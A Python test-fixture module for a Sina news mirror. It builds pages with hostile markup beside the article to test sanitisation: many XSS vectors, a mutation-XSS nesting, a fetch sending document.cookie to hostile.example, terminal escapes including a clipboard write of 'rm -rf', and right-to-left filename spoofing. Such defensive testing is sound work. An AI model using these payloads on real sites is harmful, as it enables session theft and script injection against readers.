"""Pages whose article is there, and beside it something that would act where a browser shows it."""

import re
from html import escape

from sinanews.mirror.faults.damage import behind_text
from sinanews.mirror.faults.kind import FOR_GOOD, Family, Kind, in_page, instead
from sinanews.mirror.replies import Reply

STAFF = "bianji.wu@staff.sina.com.cn"  # an editor's address, as pages have them in scripts
READER = "爱喝豆浆的股民小吕"  # a reader's name
IMAGE = '<img src="x" onerror="alert(1)">'
SCRIPT = "<script>alert(1)</script>"

ACTIVE = """
<svg onload="alert(1)"><image href="x" onerror="alert(1)"></image></svg>
<details open ontoggle="alert(1)"><summary>更多</summary></details>
<input autofocus onfocus="alert(1)"><video src="x" onerror="alert(1)"></video>
<p onpointerover="alert(1)" style="background:url(https://hostile.example/a.gif)">读者须知</p>
<p><a href="java&#10;script:alert(1)">全文</a> <a href=" data:text/html,x">附件</a></p>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<object data="https://hostile.example/a.swf"></object><embed src="https://hostile.example/b.swf">
<form action="https://hostile.example/">
<button formaction="javascript:alert(1)">查询</button></form>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
</mglyph></table></mtext></math>
<link rel="stylesheet" href="https://hostile.example/a.css">
<style>@import "//hostile.example/b";</style>
<meta http-equiv="refresh" content="5;url=https://hostile.example/">
<base href="https://hostile.example/">
<script src="https://hostile.example/a.js"></script>"""
TEMPLATE = f"""
<template>{IMAGE}</template><div><template shadowrootmode="open">{IMAGE}</template>附录</div>"""
SPLIT = """
<p>&lt;<!-- -->img src=x onerror=alert(1)&gt;</p><p>&lt;<ins></ins>svg onload=alert(1)&gt;</p>"""
COMMENT = f"\n<!--&gt;{IMAGE}--><!---&gt;{IMAGE}--><!--x--!&gt;{IMAGE}-->"
CODE_SPAN = f'\n\n` <a title="`{SCRIPT}">注</a>\n'
BLANK_LINES = f'\n<p><a title="注\n\n[注](b)\n\n{SCRIPT}\n\n">注</a></p>'
LINK = "\n\n[全文](javascript:alert(1)) <javascript:alert(1)>\n\n[^1]: [注](data:text/html,x)\n\n"
BACKSLASH = r"""
<p><img src="https://n.sinaimg.cn/it's?\q&quot;.jpg"></p>"""
CONTROLS = (
    "\n<p>公告&#27;]52;c;cm0gLXJm&#7;&#27;[2J&#27;]0;x&#7;&#155;31m&#133;结束</p>"
    "<p>编号 &#8238;gpj.exe&#8236; &#8294;x&#8297;&#8232;尾&#0;&#8;</p>"
)
MAILS = (
    f'\n<!-- creator {STAFF} --><div data-creator="{STAFF}"></div>'
    f'<script>var zhibo = {{"creator":"{STAFF}","comment_list":[{{"nick":"{READER}"}}]}};</script>'
)
WITHOUT_ARTICLE = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>公告</title></head><body onload="alert(1)">{SCRIPT}
<script>fetch("https://hostile.example/?" + document.cookie)</script>
<!-- creator {STAFF} --><p>系统维护</p></body></html>
"""
CAPTCHA_WORD = """<html><meta charset="utf-8"><title>提醒</title>
<p>银行提醒：短信验证码被盗，多名储户受损。</p></html>
"""

_FIELDS = re.compile(
    r'(?P<before><(?:span|a)\b[^>]* class="source[^"]*"[^>]*>|<span class="img_descr">)[^<]*'
    r'|(?P<meta><meta name="keywords" content=")[^"]*'
)


def _with_markup_in_fields(page: str) -> str:
    text = escape(f'"{IMAGE}{SCRIPT}')
    return _FIELDS.sub(lambda match: (match["before"] or match["meta"]) + text, page)


def _beside_article(name: str, summary: str, html: str) -> Kind:
    return Kind(name, summary, in_page(behind_text(html)), FOR_GOOD)


FAMILY = Family(
    "markup",
    "what would act where a browser shows the page, or a post made of it",
    (
        _beside_article("active", "handlers, scripts, frames, forms, redirects, styles", ACTIVE),
        _beside_article("template", "markup that sleeps in templates, or wakes", TEMPLATE),
        _beside_article("split-tag", "tags in text, each divided by a node", SPLIT),
        _beside_article("comment-end", "comments that end where a decoder ends them", COMMENT),
        _beside_article("code-span", "a back tick in the text and one in an attribute", CODE_SPAN),
        _beside_article("blank-lines", "blank lines and Markdown in an attribute", BLANK_LINES),
        _beside_article("markdown-link", "links in Markdown that run scripts", LINK),
        _beside_article("backslash", "quotes and backslashes in a picture's address", BACKSLASH),
        _beside_article("controls", "what a terminal obeys, and text that turns round", CONTROLS),
        _beside_article("mails", "an editor's address and a reader's name", MAILS),
        Kind(
            "fields",
            "markup as text of the source, the caption and the keywords",
            in_page(_with_markup_in_fields),
            FOR_GOOD,
        ),
        Kind(
            "no-article",
            "a page without an article, but with scripts",
            instead(Reply(WITHOUT_ARTICLE.encode())),
            FOR_GOOD,
        ),
        Kind(
            "captcha-word",
            "a small page without an article, in which the word captcha occurs",
            instead(Reply(CAPTCHA_WORD.encode())),
            FOR_GOOD,
        ),
    ),
)
